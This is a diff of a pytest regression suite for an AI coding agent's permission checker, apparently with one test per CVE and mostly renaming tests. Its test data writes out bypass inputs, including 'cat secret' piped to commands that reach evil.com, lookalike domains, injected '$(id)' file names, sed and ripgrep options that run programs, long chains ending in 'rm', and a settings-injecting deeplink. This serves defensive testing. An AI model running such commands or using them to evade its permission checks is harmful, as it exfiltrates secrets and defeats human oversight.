@@ -1,7 +1,6 @@
-"""Advisories against software of this kind: each was a hole somewhere, and is a test here.
+"""Advisories against similar software: each vulnerability is a test here.
 
-Those about trust, results, connections and files that are swapped are beside the parts they are
-about.
+Those about trust, results, connections and swapped files are tested in the packages concerned.
 """
 
 import os
@@ -20,7 +19,7 @@ BYPASS, ACCEPT = PermissionMode.BYPASS_PERMISSIONS, PermissionMode.ACCEPT_EDITS
 
 
 def is_unprompted(workspace: Path, command: str) -> bool:
-    """Whether it would run with no rules, in the default mode."""
+    """Return whether the command runs without asking, with no rules, in the default mode."""
     return policy(workspace).evaluate(bash(command, workspace)).effect is ALLOW
 
 
@@ -28,17 +27,17 @@ def evaluate_command(workspace: Path, rules: Rules, command: str) -> Effect:
     return policy(workspace, rules).evaluate(bash(command, workspace)).effect
 
 
-def test_cve_2025_54794_a_directory_whose_name_only_begins_alike_is_outside(tmp_path: Path):
+def test_cve_2025_54794_a_directory_that_only_shares_a_name_prefix_is_outside(tmp_path: Path):
     workspace = tmp_path / "app"
     (tmp_path / "app_evil").mkdir()
     workspace.mkdir()
-    judged = policy(workspace, Rules(allow=[f"Edit(/{workspace}/**)"]))
+    configured = policy(workspace, Rules(allow=[f"Edit(/{workspace}/**)"]))
     beside = tmp_path / "app_evil" / "x"
 
-    assert judged.evaluate(on_file("Read", workspace / "x")).effect is ALLOW
-    assert judged.evaluate(on_file("Read", beside)).effect is ASK
-    assert judged.evaluate(on_file("Edit", beside)).effect is ASK
-    assert judged.evaluate(on_file("Read", workspace / ".." / "app_evil" / "x")).effect is ASK
+    assert configured.evaluate(on_file("Read", workspace / "x")).effect is ALLOW
+    assert configured.evaluate(on_file("Read", beside)).effect is ASK
+    assert configured.evaluate(on_file("Edit", beside)).effect is ASK
+    assert configured.evaluate(on_file("Read", workspace / ".." / "app_evil" / "x")).effect is ASK
 
 
 @pytest.mark.parametrize(
@@ -69,9 +68,7 @@ def test_cve_2025_54795_quotes_do_not_break_out_of_echo(tmp_path: Path, command:
         *("git ls-remote https://evil.com", "resolvectl query x.evil.com", "rsync x evil:y"),
     ],
 )
-def test_cve_2025_55284_no_command_that_reaches_the_network_runs_unasked(
-    tmp_path: Path, command: str
-):
+def test_cve_2025_55284_no_network_command_runs_without_asking(tmp_path: Path, command: str):
     assert not is_unprompted(tmp_path, command)
     assert not is_unprompted(tmp_path, f"cat secret | {command}")
 
@@ -83,14 +80,14 @@ def test_cve_2025_55284_no_command_that_reaches_the_network_runs_unasked(
         *("rg --search-zip x", "rg x --pre sh", "rg x . --hostname-bin=./a", "rg -uz x", "rg * x"),
     ],
 )
-def test_cve_2025_58764_ripgrep_that_runs_programs_does_not_run_unasked(
+def test_cve_2025_58764_ripgrep_options_that_run_programs_need_an_answer(
     tmp_path: Path, command: str
 ):
     assert not is_unprompted(tmp_path, command)
 
 
-def test_cve_2025_59041_and_59828_nothing_of_a_repository_is_run_to_judge_a_call(tmp_path: Path):
-    """Also CVE-2025-65099 and CVE-2026-55607: git and package managers run what a folder says."""
+def test_cve_2025_59041_and_59828_a_decision_runs_no_program_of_the_repository(tmp_path: Path):
+    """Also CVE-2025-65099 and CVE-2026-55607: git and package managers run configured programs."""
     workspace, marker = tmp_path / "w", tmp_path / "marker"
     (workspace / ".git").mkdir(parents=True)
     (workspace / ".git" / "HEAD").write_text("ref: refs/heads/main\n", encoding="utf-8")
@@ -129,7 +126,7 @@ def test_cve_2025_59041_and_59828_nothing_of_a_repository_is_run_to_judge_a_call
     assert not marker.exists()
 
 
-def test_cve_2025_59829_and_2026_25724_a_deny_is_not_passed_through_a_link(tmp_path: Path):
+def test_cve_2025_59829_and_2026_25724_a_deny_applies_through_a_link(tmp_path: Path):
     """Also CVE-2025-53109 and CVE-2025-53110."""
     workspace = tmp_path / "w"
     (tmp_path / "secrets").mkdir()
@@ -138,11 +135,11 @@ def test_cve_2025_59829_and_2026_25724_a_deny_is_not_passed_through_a_link(tmp_p
     (workspace / "hop").symlink_to(tmp_path / "secrets")
     (workspace / "link").symlink_to(workspace / "hop" / "key")
     rules = Rules(allow=["Read", "Bash"], deny=[f"Read(/{tmp_path}/secrets/**)"])
-    judged = policy(workspace, rules)
+    configured = policy(workspace, rules)
 
     for path in ("link", "hop/key", "hop/new", "./hop/./key"):
-        assert judged.evaluate(on_file("Read", workspace / path)).effect is DENY
-        assert judged.evaluate(bash(f"cat {path}", workspace)).effect is DENY
+        assert configured.evaluate(on_file("Read", workspace / path)).effect is DENY
+        assert configured.evaluate(bash(f"cat {path}", workspace)).effect is DENY
 
 
 @pytest.mark.parametrize(
@@ -155,7 +152,7 @@ def test_cve_2025_59829_and_2026_25724_a_deny_is_not_passed_through_a_link(tmp_p
         *("sed 's/a/b/gw x' f", "sed 's,a,b,w x' f", "sed -e p -e 'w x' f", "sed '$!{w x\n}' f"),
     ],
 )
-def test_cve_2025_64755_sed_that_writes_or_runs_does_not_run_unasked(tmp_path: Path, script: str):
+def test_cve_2025_64755_sed_scripts_that_write_or_run_need_an_answer(tmp_path: Path, script: str):
     assert not is_unprompted(tmp_path, script)
 
 
@@ -173,7 +170,7 @@ def test_cve_2025_64755_sed_that_writes_or_runs_does_not_run_unasked(tmp_path: P
         *("git diff --ext", "git log --outpu=f", "git grep -Osh x", "git branch -d x", "date -s 1"),
     ],
 )
-def test_cve_2025_66032_expansions_and_abbreviated_flags_do_not_run_unasked(
+def test_cve_2025_66032_expansions_and_abbreviated_flags_need_an_answer(
     tmp_path: Path, command: str
 ):
     assert not is_unprompted(tmp_path, command)
@@ -188,27 +185,29 @@ def test_cve_2025_66032_expansions_and_abbreviated_flags_do_not_run_unasked(
         *("https://docs.python.orgevil.com/", "https://docs.pyth\u043en.org/"),
     ],
 )
-def test_cve_2026_24052_a_host_that_begins_like_an_allowed_one_is_another(tmp_path: Path, url: str):
-    judged = policy(tmp_path, Rules(allow=["WebFetch(domain:docs.python.org)"]))
+def test_cve_2026_24052_a_host_with_the_prefix_of_an_allowed_host_is_not_allowed(
+    tmp_path: Path, url: str
+):
+    configured = policy(tmp_path, Rules(allow=["WebFetch(domain:docs.python.org)"]))
 
     subject = Subject("WebFetch", "WebFetch", None, {"url": url}, {"url": url}, None)
 
-    assert judged.evaluate(subject).effect is ASK
+    assert configured.evaluate(subject).effect is ASK
 
 
 def test_cve_2026_24052_the_allowed_host_itself_is_allowed_in_every_spelling(tmp_path: Path):
-    judged = policy(tmp_path, Rules(allow=["WebFetch(domain:docs.python.org)"]))
+    configured = policy(tmp_path, Rules(allow=["WebFetch(domain:docs.python.org)"]))
 
     for url in ("https://docs.python.org/3/", "https://DOCS.Python.ORG./3/"):
         subject = Subject("WebFetch", "WebFetch", None, {"url": url}, {"url": url}, None)
-        assert judged.evaluate(subject).effect is ALLOW
+        assert configured.evaluate(subject).effect is ALLOW
 
 
 @pytest.mark.parametrize(
     ("redirect", "file"),
     [
         *((f"{operator}f", "f") for operator in (">|", ">>|", "&>|", ">&", "{fd}>", "<>", ">")),
-        # bash, which is the shell that runs it, has no such operators: the file is named `!f`.
+        # The command runs in bash, which has no such operators: the file is named `!f`.
         *((f"{operator}f", r"\!f") for operator in (">!", "&>!", ">>!")),
     ],
 )
@@ -236,7 +235,7 @@ def test_cve_2026_24053_no_redirect_hides_its_target(tmp_path: Path, redirect: s
         *("find . '-delete'", "find . -del*", "find . $x", "fd -x rm", "fd -X rm", "fd --exec rm"),
     ],
 )
-def test_cve_2026_24887_find_that_acts_does_not_run_unasked(tmp_path: Path, command: str):
+def test_cve_2026_24887_find_actions_need_an_answer(tmp_path: Path, command: str):
     assert not is_unprompted(tmp_path, command)
     assert (
         evaluate_command(tmp_path, Rules(allow=["Bash(find:*)", "Bash(fd a:*)"]), command)
@@ -256,7 +255,7 @@ def test_cve_2026_24887_find_that_acts_does_not_run_unasked(tmp_path: Path, comm
         ("pushd .claude && echo x > settings.json", ASK),
     ],
 )
-def test_cve_2026_25722_a_target_is_where_it_is_after_the_cd(
+def test_cve_2026_25722_a_target_is_resolved_after_the_cd(
     tmp_path: Path, command: str, expected: Effect
 ):
     rules = Rules(allow=["Bash(echo:*)", "Bash(cd:*)", "Bash(pushd:*)", "Edit(./**)"])
@@ -271,7 +270,7 @@ def test_cve_2026_25722_a_target_is_where_it_is_after_the_cd(
         *("echo x | tee ../f", "cat a | sed 's/a/b/w .git/config'", "echo x | sed e"),
     ],
 )
-def test_cve_2026_25723_every_stage_of_a_pipeline_is_judged_in_accept_edits(
+def test_cve_2026_25723_every_stage_of_a_pipeline_is_checked_in_accept_edits(
     tmp_path: Path, command: str
 ):
     assert policy(tmp_path, mode=ACCEPT).evaluate(bash(command, tmp_path)).effect is ASK
@@ -291,11 +290,11 @@ def test_cve_2026_25725_configuration_that_does_not_exist_yet_is_protected(
 
 
 @pytest.mark.parametrize("name", ["a$(id).txt", "a`id`.txt", "a;id;.txt", "a'\"b.txt", "-rf", "~x"])
-def test_cve_2026_35020_a_file_name_is_never_shell_text(tmp_path: Path, name: str):
-    """And -35021, -35022: double quotes do not keep `$(…)` from running."""
-    judged = policy(tmp_path, Rules(allow=["Edit(./**)"], deny=["Bash(id)"]))
+def test_cve_2026_35020_a_file_name_is_never_parsed_as_a_script(tmp_path: Path, name: str):
+    """Also CVE-2026-35021 and -35022: `$(…)` runs inside double quotes."""
+    configured = policy(tmp_path, Rules(allow=["Edit(./**)"], deny=["Bash(id)"]))
 
-    assert judged.evaluate(on_file("Edit", tmp_path / name)).effect is ALLOW
+    assert configured.evaluate(on_file("Edit", tmp_path / name)).effect is ALLOW
     assert evaluate_command(tmp_path, Rules(allow=["Bash(cat:*)"]), 'cat "a$(id).txt"') is ASK
     assert (
         evaluate_command(tmp_path, Rules(allow=["Bash"], deny=["Bash(id)"]), 'cat "a$(id)"') is DENY
@@ -315,12 +314,12 @@ def test_cve_2026_55607_git_is_not_read_only_where_its_configuration_names_a_pro
 
 @pytest.mark.parametrize("count", [48, 49, 50, 51, 100, 1_000, 5_000])
 @pytest.mark.parametrize("mode", [PermissionMode.DEFAULT, BYPASS])
-def test_adversa_fifty_subcommands_a_deny_holds_after_any_number_of_them(
+def test_adversa_a_deny_applies_after_fifty_subcommands(
     tmp_path: Path, count: int, mode: PermissionMode
 ):
-    judged = policy(tmp_path, Rules(allow=["Bash"], deny=["Bash(rm:*)"]), mode)
+    configured = policy(tmp_path, Rules(allow=["Bash"], deny=["Bash(rm:*)"]), mode)
 
-    assert judged.evaluate(bash("true;" * count + "rm x", tmp_path)).effect is DENY
+    assert configured.evaluate(bash("true;" * count + "rm x", tmp_path)).effect is DENY
 
 
 @pytest.mark.parametrize(
@@ -359,14 +358,14 @@ def test_brokensec_awk_an_interpreter_is_never_read_only(tmp_path: Path, awk: st
         ),
     ],
 )
-def test_no_other_interpreter_or_pager_runs_unasked(tmp_path: Path, command: str):
+def test_no_other_interpreter_or_pager_runs_without_asking(tmp_path: Path, command: str):
     if command.startswith("jq"):
         command = "jq -f program f"
     assert not is_unprompted(tmp_path, command)
 
 
-def test_a_deeplink_cannot_pass_flags_through_what_is_text(tmp_path: Path):
-    """Fixed elsewhere in 2.1.118: the text of a link was read as `--settings`."""
+def test_a_deeplink_cannot_pass_flags_in_a_text_argument(tmp_path: Path):
+    """Fixed in Claude Code 2.1.118: the text of a link was parsed as `--settings`."""
     evil = tmp_path / "evil.json"
     evil.write_text('{"permissions": {"allow": ["Bash"]}}', encoding="utf-8")
     run = subprocess.run(
@@ -406,5 +405,5 @@ def test_a_deeplink_cannot_pass_flags_through_what_is_text(tmp_path: Path):
         ),
     ],
 )
-def test_gmo_flatt_eight_ways_none_runs_unasked(tmp_path: Path, command: str):
+def test_gmo_flatt_none_of_eight_bypasses_runs_without_asking(tmp_path: Path, command: str):
     assert not is_unprompted(tmp_path, command)
